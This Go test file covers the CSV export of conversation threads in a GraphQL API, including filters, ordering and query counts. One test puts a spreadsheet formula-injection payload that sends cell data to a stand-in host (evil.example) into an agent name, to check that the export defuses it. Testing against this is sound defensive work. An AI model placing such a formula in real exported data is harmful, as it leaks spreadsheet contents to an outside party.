package graph_test

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"parley/ent"
	"parley/ent/ms"
	"parley/ent/thread"
	"parley/ent/viewer"
	"parley/eventlog"
	"parley/storage/storagetest"
)

// table reads a CSV file: its header line, and its other lines by column.
func table(t *testing.T, text string) (header []string, lines []map[string]string) {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %s", err, text)
	}
	for _, cells := range all[1:] {
		line := map[string]string{}
		for i, cell := range cells {
			line[all[0][i]] = cell
		}
		lines = append(lines, line)
	}
	return all[0], lines
}

func TestAListOfThreadsIsASafeTable(t *testing.T) {
	eachFiles(t, func(t *testing.T, f files) {
		agentID := f.agent(`=HYPERLINK("http://evil.example?"&A1)`)
		r := f.must(`mutation($i: CreateThreadInput!) { createThread(input: $i) { thread { id customer { id } createdAt } } }`, map[string]any{"i": map[string]any{
			"agentId": agentID, "channel": "@web", "externalId": "-1+1", "metadata": map[string]any{"a": "x,\"y\"\nz"},
			"customer": map[string]any{"name": "Ann \"A\", Köln\nzwei", "phone": "+493012345678", "email": "ann@example.com", "externalId": "\tc"},
		}})
		threadID := r.text("createThread", "thread", "id")
		f.must(`mutation($t: ID!) {
			addTag(input: {threadId: $t, tag: "vip"}) { thread { id } }
			b: addTag(input: {threadId: $t, tag: "success"}) { thread { id } }
			sendOperatorMessage(input: {threadId: $t, text: "x"}) { message { id } }
		}`, map[string]any{"t": threadID})
		last := f.must(`query($t: ID!) { thread(id: $t) { lastMessageAt } }`, map[string]any{"t": threadID}).text("thread", "lastMessageAt")
		text := f.file("exportThreads", "where: {}", nil)
		if strings.Count(text, "\r\n") != 2 || !strings.HasSuffix(text, "\r\n") {
			t.Errorf("lines do not end as RFC 4180 wants: %q", text)
		}
		header, lines := table(t, text)
		want := []string{
			threadID, "'-1+1", r.text("createThread", "thread", "customer", "id"), "'\tc", "Ann \"A\", Köln\nzwei", "ann@example.com", "'+493012345678",
			agentID, `'=HYPERLINK("http://evil.example?"&A1)`, "'@web", "OPEN", "true", "", "false", "false", "false", "false", "success vip",
			"1", last, r.text("createThread", "thread", "createdAt"), `{"a":"x,\"y\"\nz"}`,
		}
		for i, column := range header {
			if got := lines[0][column]; got != want[i] {
				t.Errorf("%s is %q, want %q", column, got, want[i])
			}
		}
		if got := strings.Join(header, ","); len(header) != len(want) || !strings.HasPrefix(text, got+"\r\n") {
			t.Errorf("header %s", got)
		}
	})
}

// threadsOf are the ids in a CSV file, in order.
func threadsOf(t *testing.T, text string) []string {
	_, lines := table(t, text)
	ids := make([]string, len(lines))
	for i, line := range lines {
		ids[i] = line["thread_id"]
	}
	return ids
}

func TestAnExportHasTheFilterOfItsList(t *testing.T) {
	eachFiles(t, func(t *testing.T, f files) {
		agentID, other := f.agent("A"), f.agent("B")
		x, y := f.thread(agentID), f.thread(other)
		r := f.must(`mutation($a: ID!) { createThread(input: {agentId: $a, externalId: "x-1", channel: "Straße", customer: {name: "Bob"}}) { thread { id customer { id } createdAt } } }`, map[string]any{"a": agentID})
		z := r.text("createThread", "thread", "id")
		f.must(`mutation($x: ID!, $y: ID!) {
			addTag(input: {threadId: $x, tag: "vip"}) { thread { id } }
			sendOperatorMessage(input: {threadId: $x, text: "Grüße zu 100% <Köln>"}) { message { id } }
			takeOver(input: {threadId: $y}) { thread { id } }
			sendMessage(input: {threadId: $y, text: "I am still here."}) { message { id } }
		}`, map[string]any{"x": x, "y": y})
		held := f.must(`query($t: ID!) { thread(id: $t) { operator { id } lastActivityAt } }`, map[string]any{"t": y})
		made, active := r.text("createThread", "thread", "createdAt"), held.text("thread", "lastActivityAt")
		where := map[string][]any{
			"id": {x}, "idIn": {[]string{x, z}, z, []string{}}, "externalId": {"x-1", nil}, "externalIdIn": {[]string{"x-1", "q"}},
			"status": {"OPERATOR"}, "statusIn": {[]string{"OPEN"}, "OPERATOR"}, "agentID": {agentID}, "agentIDIn": {[]string{other}, []string{}},
			"customerID": {r.text("createThread", "thread", "customer", "id")}, "operatorID": {held.text("thread", "operator", "id")},
			"operatorIDIsNil": {true, false}, "unread": {true, false}, "channel": {"Straße"}, "channelIn": {[]string{"test"}}, "createdAtGTE": {made}, "createdAtLT": {made},
			"lastActivityAtGTE": {active}, "lastActivityAtLT": {active}, "messageCountGTE": {1, 0}, "tag": {"vip"}, "tagIn": {[]string{"vip", "operator"}, []string{}},
			"text": {"100% <köln>", "bob", "_"}, "not": {map[string]any{"externalId": "x-1"}, map[string]any{"idIn": []string{}}},
			"and": {[]any{map[string]any{"tag": "vip"}, map[string]any{"status": "OPEN"}}, []any{}},
			"or":  {[]any{map[string]any{"tag": "vip"}, map[string]any{"operatorIDIsNil": false}}, []any{}, map[string]any{"not": map[string]any{"tag": "vip"}}},
		}
		fields, _ := f.must(`{ __type(name: "ThreadWhereInput") { inputFields { name } } }`, nil).at("__type", "inputFields").([]any)
		if len(fields) < 20 {
			t.Fatalf("%d fields of filters", len(fields))
		}
		for _, field := range fields {
			name := field.(map[string]any)["name"].(string)
			if len(where[name]) == 0 {
				t.Errorf("the filter %s is not tested", name)
			}
			for _, value := range where[name] {
				v := map[string]any{"w": map[string]any{name: value}, "o": map[string]any{"field": "CREATED_AT"}}
				want := []string{}
				edges, _ := f.must(`query($w: ThreadWhereInput, $o: ThreadOrder) { threads(where: $w, orderBy: $o) { edges { node { id } } } }`, v).at("threads", "edges").([]any)
				for _, e := range edges {
					want = append(want, e.(map[string]any)["node"].(map[string]any)["id"].(string))
				}
				if got := threadsOf(t, f.file("exportThreads", "where: $w, orderBy: $o", v)); !slices.Equal(got, want) {
					t.Errorf("%s: %v has %v, want %v", name, value, got, want)
				}
			}
		}
		literal := `where: {tagIn: "vip", createdAtLT: "2100-01-01T00:00:00+01:00", messageCountGTE: 1, status: OPEN}`
		if got := threadsOf(t, f.file("exportThreads", literal, nil)); !slices.Equal(got, []string{x}) {
			t.Errorf("%s has %v", literal, got)
		}

		ids := make([]string, 250)
		for i := range ids {
			ids[i] = x
		}
		bad := f.do(f.keys[viewer.Admin], `query($w: ThreadWhereInput) { exportThreads(where: $w) { url } }`, map[string]any{"w": map[string]any{"idIn": ids}})
		if bad.code() != "BAD_INPUT" || bad.Errors[0].Extensions.Fields[0].Field != "where" {
			t.Errorf("a filter that no link can hold: %.300s", bad.raw)
		}
		if got := threadsOf(t, f.file("exportThreads", "where: $w, orderBy: $o", map[string]any{"w": map[string]any{"idIn": ids[:100]}})); !slices.Equal(got, []string{x}) {
			t.Errorf("a filter of 100 ids has %v", got)
		}
	})
}

// threads stores n threads of an agent and its first thread's customer, past the API, the last of them with most messages.
func (a *api) threads(agentID string, n int) (ids []string) {
	a.t.Helper()
	ctx := viewer.WorkerContext(a.t.Context(), a.workspace, "test")
	first := a.db.Client.Thread.Query().Where(thread.ID(a.thread(agentID))).OnlyX(ctx)
	creates := make([]*ent.ThreadCreate, n)
	for i := range creates {
		creates[i] = a.db.Client.Thread.Create().SetAgentID(agentID).SetCustomerID(first.CustomerID).SetShard(eventlog.ShardOf("")).
			SetMessageCount(i / 7).SetLastActivityAt(first.CreatedAt.Add(time.Duration(i%5) * time.Second)).SetCreatedAt(ms.Time(1000 + i))
	}
	for chunk := range slices.Chunk(creates, 100) {
		for _, row := range a.db.Client.Thread.CreateBulk(chunk...).SaveX(ctx) {
			ids = append(ids, row.ID)
		}
	}
	return ids
}

func TestAllThreadsAreExportedInOrder(t *testing.T) {
	for _, name := range []string{"sqlite", "postgres"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			address := storagetest.SQLite(t)
			if name == "postgres" {
				address = storagetest.Postgres(t)
			}
			db, count, reset := statements(t, address)
			a := newAPI(t, db)
			f := files{a, serveFiles(t, a)}
			made := a.threads(a.agent("A"), 650)
			for _, order := range []string{"CREATED_AT", "LAST_ACTIVITY_AT", "MESSAGE_COUNT"} {
				for _, direction := range []string{"ASC", "DESC"} {
					reset()
					got := threadsOf(t, f.file("exportThreads", fmt.Sprintf(`where: {createdAtLT: "1999-01-01T00:00:00Z"}, orderBy: {field: %s, direction: %s}`, order, direction), nil))
					if sorted := slices.Sorted(slices.Values(got)); !slices.Equal(sorted, slices.Sorted(slices.Values(made))) {
						t.Errorf("by %s %s: %d threads, %d of them different, want %d", order, direction, len(got), len(slices.Compact(sorted)), len(made))
					}
					if order == "CREATED_AT" {
						if direction == "DESC" {
							slices.Reverse(got)
						}
						if !slices.Equal(got, made) {
							t.Errorf("by %s %s: out of order", order, direction)
						}
					}
					for table, most := range map[string]int{"threads": 4, "agents": 4, "customers": 4, "thread_tags": 4} {
						if n := count(table); n > most {
							t.Errorf("by %s %s: %d statements read %s, want at most %d", order, direction, n, table, most)
						}
					}
				}
			}
		})
	}
}
